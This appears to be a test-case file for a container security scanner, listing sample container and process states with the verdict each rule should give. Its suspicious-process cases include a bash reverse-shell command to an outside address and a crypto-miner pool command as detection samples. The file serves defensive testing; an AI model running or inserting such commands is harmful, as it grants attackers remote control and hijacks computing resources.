import {known} from '../../../../src/base/answers/index.js';
import {trusted} from '../../../../src/base/text/safe-text.js';
import type {ContainerExample} from '../../../../src/judge/rules/rule.js';
import {exampleExec, exampleProcess, rootProcess, withExec} from '../../../../src/judge/rules/shared/examples.js';
import {type Cases, row} from '../rule-cases.js';
import {running} from './case.js';

/** What runs in it. */
export const processCases: Cases<ContainerExample> = {
	'container-ssh-server': [
		row('not running', 'unknown', {State: {Status: 'exited', Running: false}}),
		row('not running, and starts one', 'fail', {State: {Status: 'exited', Running: false}, Path: '/usr/sbin/dropbear'}),
	],
	'container-exec-root': [
		row('the health check', 'pass', withExec({user: trusted('0'), isRoot: true, isHealthcheck: true})),
		row('one that has ended', 'pass', withExec({user: trusted('0'), isRoot: true, running: false})),
		row('by a name that cannot be resolved', 'unknown', withExec({user: trusted('toor'), isRoot: null, pid: 42})),
		row(
			'by a name, and its process is of uid 0',
			'fail',
			withExec({user: trusted('toor'), isRoot: null, pid: 42}, [rootProcess('sh')]),
		),
		row(
			'by a name, and its process is of another uid',
			'pass',
			withExec({user: trusted('app'), isRoot: null, pid: 42}, [exampleProcess('sh')]),
		),
		row('in a container that runs as root', 'pass', {
			ExecIDs: ['e1'],
			Config: {User: ''},
			facts: {execs: known([exampleExec({})])},
		}),
		row('not inspected', 'unknown', {ExecIDs: ['e1'], Config: {User: '1000'}}),
		row('not running', 'not-applicable', {State: {Status: 'exited', Running: false}}),
	],
	'container-live-shell': [
		row('a command', 'pass', {ExecIDs: ['e1'], facts: {execs: known([exampleExec({command: trusted('sh -c date')})])}}),
	],
	'container-suspicious-process': [
		row('a miner by its pool', ['high', /miner/], {
			facts: {processes: known([exampleProcess('java', {args: trusted('java -jar x.jar stratum+tcp://pool:3333')})])},
		}),
		row('a reverse shell', ['high', /reverse shell/], {
			facts: {processes: known([exampleProcess('bash', {args: trusted('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')})])},
		}),
		row('a script that waits for a port', 'pass', {
			facts: {
				processes: known([exampleProcess('bash', {args: trusted('bash -c until (echo > /dev/tcp/db/5432); do sleep 1; done')})]),
			},
		}),
		row('a probe with nc', 'pass', {facts: {processes: known([exampleProcess('nc', {args: trusted('nc -z localhost 80')})])}}),
		row('a shell under a server', ['medium', /started by nginx/], {
			facts: {processes: known([exampleProcess('nginx', {pid: 7}), exampleProcess('sh', {pid: 9, parent: 7})])},
		}),
		row('a scheduler', 'low', {facts: running('crond')}),
		row('not running', 'not-applicable', {State: {Status: 'exited', Running: false}}),
	],
};
